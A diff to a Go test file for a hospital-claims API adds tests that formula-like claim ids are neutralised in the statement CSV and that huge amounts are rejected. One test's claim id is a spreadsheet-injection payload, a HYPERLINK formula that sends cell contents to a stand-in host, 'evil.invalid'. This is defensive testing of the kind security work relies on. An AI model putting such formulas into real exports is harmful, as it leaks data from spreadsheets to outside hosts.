@@ -1,8 +1,12 @@
 package api
 
 import (
+	"bytes"
 	"context"
 	"encoding/base64"
+	"encoding/csv"
+	"encoding/json"
+	"io"
 	"net/http"
 	"strings"
 	"sync"
@@ -112,5 +116,66 @@ func TestHostileTextIs400(t *testing.T) {
 			t.Errorf("4 racing closes: %v", codes)
 			break
 		}
+	}
+}
+
+// TestFormulaClaimIDIsInertInTheStatementCSV: a hospital-chosen claim id that a spreadsheet
+// would run comes out of the statement CSV as text, and the CSV still parses.
+func TestFormulaClaimIDIsInertInTheStatementCSV(t *testing.T) {
+	e := newEnv(t, nil)
+	const id = `=HYPERLINK("http://evil.invalid/?"&A1,"open")`
+	claimJSON, _ := json.Marshal(id)
+	body := `[{"claim_id":` + string(claimJSON) + `,"provider_id":"H3001","member_id":"M000002","care_type":"outpatient","service_date":"2026-03-25",` +
+		`"lines":[{"line_no":1,"item_code":"LAB02","category":"lab","service_date":"2026-03-25","quantity":"1","unit_price":"100.00","amount":"100.00"}],"total":"100.00"}]`
+	if r := e.do("POST", "/v1/batches?batch_id=B-FORMULA", "hospital:H3001", "application/json", []byte(body)); r.status != 202 {
+		t.Fatalf("post: %d %s", r.status, r.body)
+	}
+	e.waitBatch("B-FORMULA", "hospital:H3001")
+	e.closePeriod("2026-03")
+	req, _ := http.NewRequest("GET", e.base+"/v1/statements?period=2026-03", nil)
+	req.Header.Set("Authorization", "Bearer "+e.tokens["agency"])
+	req.Header.Set("Accept", "text/csv")
+	resp, err := http.DefaultClient.Do(req)
+	if err != nil {
+		t.Fatal(err)
+	}
+	raw, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	rows, err := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(raw, []byte("\ufeff")))).ReadAll()
+	if err != nil {
+		t.Fatalf("the CSV does not parse: %v", err)
+	}
+	found := false
+	for _, row := range rows {
+		for _, cell := range row {
+			if strings.Contains(cell, "HYPERLINK") {
+				found = cell == "'"+id
+				if !found {
+					t.Errorf("the formula id's cell: %q", cell)
+				}
+			}
+		}
+	}
+	if !found {
+		t.Errorf("the formula id is not in the statement CSV:\n%s", raw)
+	}
+}
+
+// TestMoneyHasBounds: a line of "1e999" is rejected out_of_range naming the field, with no
+// amount of a thousand digits anywhere in its result.
+func TestMoneyHasBounds(t *testing.T) {
+	e := newEnv(t, nil)
+	body := `[{"claim_id":"H3001-HUGE","provider_id":"H3001","member_id":"M000002","care_type":"outpatient","service_date":"2026-03-25",` +
+		`"lines":[{"line_no":1,"item_code":"LAB02","category":"lab","service_date":"2026-03-25","quantity":"1","unit_price":"1e999","amount":"1e999"}],"total":"1e999"}]`
+	if r := e.do("POST", "/v1/batches?batch_id=B-HUGE", "hospital:H3001", "application/json", []byte(body)); r.status != 202 {
+		t.Fatalf("post: %d %s", r.status, r.body)
+	}
+	e.waitBatch("B-HUGE", "hospital:H3001")
+	r := e.get("/v1/claims/H3001/H3001-HUGE", "hospital:H3001")
+	var cv claimView
+	r.decode(t, &cv)
+	if cv.Status != "rejected" || !cv.HasReason("out_of_range") || !strings.Contains(string(r.body), "line 1 unit_price is above 10000000") ||
+		strings.Contains(string(r.body), "0000000000000000000000") {
+		t.Errorf("a claim of 1e999: %.800s", r.body)
 	}
 }
